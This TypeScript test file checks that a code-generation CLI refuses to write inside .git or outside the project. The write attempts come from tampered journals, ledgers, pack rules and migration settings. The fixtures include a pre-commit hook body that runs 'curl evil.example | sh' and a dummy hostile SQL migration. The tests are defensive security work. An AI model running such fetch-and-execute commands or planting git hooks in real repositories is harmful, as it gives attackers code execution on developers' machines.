/**
 * Attack class: a path into a version-control folder. Git runs programs named in `.git/config`
 * (core.fsmonitor, aliases) and `.git/hooks`, and `.git/commondir` points git at another
 * folder, so a file codegen writes there runs commands without anyone's consent. Such a path
 * can come from a committed journal, a committed ledger (gen removes listed files it no longer
 * plans) or a pack's rule that declares no command at all (so no consent is asked). Each is
 * refused, and nothing under `.git` changes. A migration folder a cloned config names is held
 * to the same policy (inside the project, no link).
 */
import { suite } from "uvu";
import * as assert from "uvu/assert";
import { createHash } from "node:crypto";
import { cpSync, existsSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { codegen } from "../support/cli.js";
import { makeProject, packAndProject, smallApi } from "../support/project.js";
import { scratch } from "../support/paths.js";

const test = suite("attacks: version-control folders");
const HEAD = "ref: refs/heads/main\n";

/** A generated project holding a `.git` folder, as a clone would. */
function clonedProject(): string {
  const dir = join(scratch("attack-vcs"), "proj");
  mkdirSync(dir, { recursive: true });
  cpSync(makeProject({ "desc/api/demo.api": smallApi }), dir, { recursive: true });
  mkdirSync(join(dir, ".git/hooks"), { recursive: true });
  writeFileSync(join(dir, ".git/HEAD"), HEAD);
  const first = codegen(["gen"], dir);
  assert.is(first.code, 0, first.stderr);
  return dir;
}

for (const command of [["gen"], ["recover"], ["recover", "--rollback"]]) {
  test(`${command.join(" ")}: a journal writing .git/hooks/pre-commit is refused`, () => {
    const dir = clonedProject();
    const tx = join(dir, ".codegen/tx");
    mkdirSync(join(tx, "new"), { recursive: true });
    mkdirSync(join(tx, "old"), { recursive: true });
    writeFileSync(join(tx, "new/0"), "#!/bin/sh\ncurl evil.example | sh\n", { mode: 0o755 });
    writeFileSync(join(tx, "old/0"), "#!/bin/sh\ncurl evil.example | sh\n", { mode: 0o755 });
    writeFileSync(
      join(tx, "journal.json"),
      JSON.stringify({
        version: 1,
        ops: [{ path: ".git/hooks/pre-commit", op: "write", existed: true }],
        ledger: false,
      }),
    );
    const r = codegen(command, dir);
    assert.is(r.code, 1, r.stderr);
    assert.match(r.stderr, /JOURNAL_INVALID .*\.git\/hooks\/pre-commit, inside \.git, which codegen never writes/);
    assert.not.ok(existsSync(join(dir, ".git/hooks/pre-commit")));
  });
}

test("a journal path is compared without case (.GIT on a case-insensitive file system)", () => {
  const dir = clonedProject();
  const tx = join(dir, ".codegen/tx");
  mkdirSync(join(tx, "new"), { recursive: true });
  writeFileSync(join(tx, "new/0"), "[core]\n");
  writeFileSync(
    join(tx, "journal.json"),
    JSON.stringify({ version: 1, ops: [{ path: ".GIT/config", op: "write", existed: false }], ledger: false }),
  );
  const r = codegen(["recover"], dir);
  assert.is(r.code, 1, r.stderr);
  assert.match(r.stderr, /JOURNAL_INVALID .*inside \.GIT/);
  assert.not.ok(existsSync(join(dir, ".GIT")));
});

test("a ledger listing .git/HEAD with its bytes' hash is refused, and .git/HEAD stays", () => {
  const dir = clonedProject();
  const ledgerPath = join(dir, ".codegen/ledger.json");
  const ledger = JSON.parse(readFileSync(ledgerPath, "utf8")) as { files: unknown[] };
  ledger.files.unshift({
    path: ".git/HEAD",
    mode: "managed",
    rule: "main",
    sources: [],
    sha256: createHash("sha256").update(HEAD).digest("hex"),
  });
  writeFileSync(ledgerPath, JSON.stringify(ledger));
  const r = codegen(["gen"], dir);
  assert.is(r.code, 1, r.stderr);
  assert.match(r.stderr, /LEDGER_INVALID .*"\.git\/HEAD", which is not a path inside the project/);
  assert.is(readFileSync(join(dir, ".git/HEAD"), "utf8"), HEAD);
});

test("a pack rule planning .git/commondir is refused, though the pack runs no command", () => {
  const rules = "- name: point-git\n  path: .git/commondir\n  mode: once\n  copy: gd\n";
  const { dir, pack, env } = packAndProject("vcs", { "rules/git.yaml": rules }, { "desc/api/demo.api": smallApi });
  mkdirSync(join(pack, "static"), { recursive: true });
  writeFileSync(join(pack, "static/gd"), "../gd\n");
  mkdirSync(join(dir, ".git"), { recursive: true });
  const r = codegen(["gen"], dir, env);
  assert.is(r.code, 1, r.stderr);
  assert.match(
    r.stderr,
    /UNSAFE_PATH rule "point-git" planned "\.git\/commondir", which lies in \.git, a folder codegen never writes/,
  );
  assert.not.ok(existsSync(join(dir, ".git/commondir")));
});

test("a cloned project's migrate.dir outside the project, or through a link, is refused; --dir is the user's choice", () => {
  const base = scratch("attack-migrate-dir");
  const outside = join(base, "elsewhere");
  mkdirSync(outside, { recursive: true });
  writeFileSync(join(outside, "1_evil.up.sql"), "CREATE TABLE pwned (id INTEGER);");
  const dir = join(base, "proj");
  mkdirSync(dir);
  for (const [migrateDir, why] of [
    ["../elsewhere", /is not inside the project/],
    ["linked", /reaches linked, which is a symbolic link/],
  ] as const) {
    writeFileSync(join(dir, ".codegen.yaml"), `name: m\nmigrate:\n  datasource: sqlite:app.db\n  dir: ${migrateDir}\n`);
    if (migrateDir === "linked") symlinkSync(outside, join(dir, "linked"));
    const r = codegen(["migrate", "up"], dir);
    assert.is(r.code, 1, r.stderr);
    assert.match(r.stderr, /UNSAFE_PATH migrate\.dir/);
    assert.match(r.stderr, why);
    assert.not.ok(existsSync(join(dir, "app.db")), "no database touched");
  }
  const chosen = codegen(["migrate", "up", "--dir", outside], dir);
  assert.is(chosen.code, 0, chosen.stderr);
});

test.run();
